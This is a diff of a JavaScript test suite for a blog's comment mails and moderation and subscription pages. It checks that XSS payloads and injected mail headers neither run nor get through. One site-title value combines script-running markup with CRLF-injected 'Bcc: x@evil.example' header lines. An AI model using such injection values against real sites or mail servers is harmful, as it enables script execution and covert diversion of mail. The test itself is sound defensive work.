@@ -12,11 +12,15 @@ import { payloads } from './xss-payloads.mjs';
 const CHUNK = 18;
 const { PYTHON, AIOSMTPD } = process.env;
 const READER = 'ann@example.org';
-const titles = payloads.filter(({ group }) => group === 'Out of where it stands').map(({ text }) => text);
+// The one name that stands in a subject. It is the owner's, who may have it from anywhere.
+const SITE = `"></title><img src=x onerror=pwned("site")>\r\nBcc: x@evil.example\r\n\r\n<script>pwned("site")</script> ${'é '.repeat(60)}`;
+const SUBJECT = SITE.trim().replaceAll(/\s+/g, ' ');
 const all = chunks(payloads, CHUNK);
 const mails = folder();
-const article = (n) => `/xss/m${n}/`;
-/** By their chunk: what was posted, `{ id, author }`, and the ways to approve it. */
+/** Each attack is the title of an article too, and stands there. */
+const article = (number) => `/xss/m${number}/`;
+const title = (text) => text.replaceAll(/[\s\0-\x1f\x7f-\x9f]+/g, ' ').trim() || 'Blank';
+/** By their chunk: what was posted, `{ id, author, title }`, and the ways to approve it. */
 const posted = [];
 const ways = [];
 let blog, chromium;
@@ -38,18 +42,18 @@ async function attack(draft, text) {
     answer = await tell(draft);
   }
   assert.equal(answer.status, 202);
-  return { id: (await answer.json()).id, author: draft.author.trim().normalize('NFC') };
+  return (await answer.json()).id;
 }
 
 before(async () => {
-  const page = (title) => JSON.stringify({ title, date: '2026-01-01' });
-  blog = exampleBlog({ files: Object.fromEntries(all.map((_, n) => [`content${article(n).slice(0, -1)}.md`, page(titles[n])])) });
+  const page = (text) => JSON.stringify({ title: title(text), date: '2026-01-01' });
+  blog = exampleBlog({ files: Object.fromEntries(payloads.map(({ number, text }) => [`content${article(number).slice(0, -1)}.md`, page(text)])) });
   blog.build();
   const port = await freePort();
   const env = { ...process.env, PYTHONPATH: AIOSMTPD, PYTHONDONTWRITEBYTECODE: '1' };
   await start(PYTHON, [join(root, 'crates/xtask/browser/smtp.py'), String(port), mails], { env }, (said) => said.includes('listening'));
   const mail = `[mail]\nserver = "localhost:${port}"\ntls = "none"\nfrom = "c@example.org"\ngather = 0\nreplies_every = 0\n`;
-  await blog.open({ policy: null, settings: `[rules]\nrate = 0\n[[moderator]]\nname = "Ines"\nemail = "ines@example.org"\n${mail}` });
+  await blog.open({ policy: null, site: `title = ${JSON.stringify(SITE)}\n`, settings: `[rules]\nrate = 0\n[[moderator]]\nname = "Ines"\nemail = "ines@example.org"\n${mail}` });
   chromium = await browser();
 });
 after(clean);
@@ -84,34 +88,67 @@ async function read(reader, mails) {
 /** The authors that mails have named. */
 const named = new Set();
 
-/** No header but ours: nothing that was sent stands in one. */
-function plainly(mails, subject) {
-  const names = new Set(mails.map(({ headers }) => Object.keys(headers).sort().join()));
-  assert.equal(names.size, 1, [...names].join('\n'));
-  assert.doesNotMatch([...names][0], /bcc|\bcc\b|reply-to/);
-  for (const { headers, to } of mails) {
+const HEADERS = ['auto-submitted', 'content-type', 'date', 'from', 'message-id', 'mime-version', 'subject', 'to', 'x-auto-response-suppress'];
+const LEAVE = ['list-unsubscribe', 'list-unsubscribe-post'];
+
+/** No header but ours, each once, and no part but ours: nothing that was sent stands in one. */
+function sealed(mails, subject, more = []) {
+  assert.ok(mails.length > 0);
+  for (const { headers, names, parts, defects, from, to } of mails) {
+    assert.deepEqual([...names].sort(), [...HEADERS, ...more].sort());
     assert.match(headers.subject, subject);
-    assert.equal(to.length, 1);
+    assert.ok(headers.subject.includes(SUBJECT), headers.subject);
+    assert.deepEqual([headers.from, headers.to, from], ['c@example.org', to.join(), 'c@example.org']);
+    assert.deepEqual(parts, ['multipart/alternative', 'text/plain', 'text/html']);
+    assert.deepEqual(defects, []);
   }
+}
+
+/** Wherever a mail program may break a line, it is ours or marked as quoted. */
+function plainly(mails, labels, last) {
+  const heads = new Set(posted.flat().flatMap(({ author, title }) => [`${author} on ${title}`, `Root on ${title}`]));
+  const seen = new Set();
+  const kind = (line) => {
+    if (heads.has(line)) return 'HEAD';
+    const [, label, url] = /^(?:([^:]+): )?(http\S+)$/.exec(line) ?? [];
+    if (url && new URL(url).origin === blog.origin) return label ?? 'URL';
+    return line;
+  };
+  for (const { plain } of mails) {
+    const lines = plain.split(/\r\n|[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]/).filter((line) => line && !line.startsWith('> ') && !/^Held by: [\w ]+$/.test(line));
+    const [end, ...comments] = lines.map(kind).join('\n').split(`\n${'-'.repeat(32)}\n`).reverse();
+    for (const comment of comments) seen.add(comment);
+    assert.equal(end, last);
+  }
+  assert.deepEqual([...seen], [labels.join('\n')]);
 }
 
 test('in the mails to moderators nothing runs, and nothing leaves its place', async () => {
   for (const [n, some] of all.entries()) {
-    const body = { article: article(n), author: 'Root', text: 'What is answered', email: READER, notify: 'on' };
-    const top = (await (await tell(body)).json()).id;
-    blog.approve(top);
+    const top = async ({ number }) => {
+      const answer = await tell({ article: article(number), author: 'Root', text: `What ${number} answers`, email: READER, notify: 'on' });
+      assert.equal(answer.status, 202);
+      return (await answer.json()).id;
+    };
+    const tops = await Promise.all(some.map(top));
+    blog.approve(...tops);
     if (n === 0) {
       await until('the question whether the address is his', () => to(READER).length === 1);
       const [url] = /http\S+\/subscription\/\S+/.exec(to(READER)[0].plain);
       assert.equal((await fetch(url, { method: 'POST' })).status, 200);
     }
-    posted[n] = await Promise.all(some.map(({ text }) => attack({ article: article(n), reply_to: top }, text)));
+    posted[n] = await Promise.all(some.map(async ({ number, text }, which) => {
+      const draft = { article: article(number), reply_to: tops[which] };
+      const id = await attack(draft, text);
+      return { id, author: draft.author.trim().normalize('NFC'), title: title(text) };
+    }));
     const told = () => to('ines@example.org').map(({ plain }) => plain).join('\n');
     await until('all to be mailed', () => posted[n].every(({ id }) => told().includes(`/moderation/link/a.${id}`)));
     ways[n] = posted[n].map(({ id }) => new RegExp(`\\S+/moderation/link/a\\.${id}\\S+`).exec(told())[0]);
   }
   const waiting = to('ines@example.org');
-  plainly(waiting, /^\d+ comments? waits? on |^A comment waits on /);
+  sealed(waiting, /^(A comment waits|\d+ comments wait) on /);
+  plainly(waiting, ['HEAD', 'URL', 'Approve', 'Reject', 'Spam'], 'Each link shows the comment and asks once more. It is good for 7 days.');
   const reader = await trap(chromium, ['bare.example']);
   await read(reader, waiting);
   const missing = posted.flat().filter(({ author }) => !named.has(author.replaceAll('\0', '\ufffd')) && !/[\r\n]/.test(author));
@@ -153,8 +190,48 @@ test('nor on the pages behind their links, before and after the act', async () =
 
 test('nor in the mails to a reader whom they answer', async () => {
   const answers = () => to(READER).slice(1);
-  plainly(answers(), /answer/i);
+  sealed(answers(), /answer/i, LEAVE);
+  plainly(answers(), ['HEAD', 'Read it in its place', 'No more of this thread'], 'No more mail, and forget my address');
   const reader = await trap(chromium, ['bare.example']);
   await read(reader, answers());
+  const [question] = to(READER);
+  sealed([question], /^Answers on /);
+  for (const { html } of [question, answers().at(-1)]) {
+    await bare(reader, html);
+    await provoke(reader);
+    clear(reader);
+  }
+  await reader.context().close();
+});
+
+test('nor on the pages of subscriptions, nor where a link is none of ours', async () => {
+  const reader = await trap(chromium, ['bare.example']);
+  const links = (mail) => mail.plain.match(/http\S+\/subscription\/\S+/g);
+  const [[confirm], [leave], all] = [to(READER)[0], to(READER).at(-1), to(READER).at(-1)].map(links);
+  const bodies = new Set();
+  const open = async (url, method, body) => {
+    const answer = await fetch(url, { method, body });
+    bodies.add(await answer.text());
+    return answer.status;
+  };
+  const form = (text) => new URLSearchParams({ read: text, csrf: text, text });
+  for (const [url, method] of [[confirm, 'GET'], [leave, 'GET'], [leave, 'POST'], [leave, 'GET'], [all.at(-1), 'GET'], [all.at(-1), 'POST'], [all.at(-1), 'GET']]) {
+    assert.equal(await open(url, method, method === 'POST' ? form(payloads[0].text) : undefined), 200, url);
+  }
+  const real = bodies.size;
+  for (const some of chunks(payloads, 40)) {
+    for (const place of ['subscription', 'moderation/link']) {
+      const url = ({ text }) => `${blog.origin}/${place}/${encodeURIComponent(text)}`;
+      const statuses = await Promise.all(some.flatMap((one) => [open(url(one), 'GET'), open(url(one), 'POST', form(one.text))]));
+      assert.ok(statuses.every((status) => status >= 400 && status < 500), statuses.join());
+    }
+  }
+  // What was sent is in no answer, or there would be as many.
+  assert.ok(bodies.size - real <= 4, [...bodies].slice(real).join('\n\n'));
+  for (const html of bodies) {
+    await bare(reader, html);
+    await provoke(reader);
+    clear(reader);
+  }
   await reader.context().close();
 });
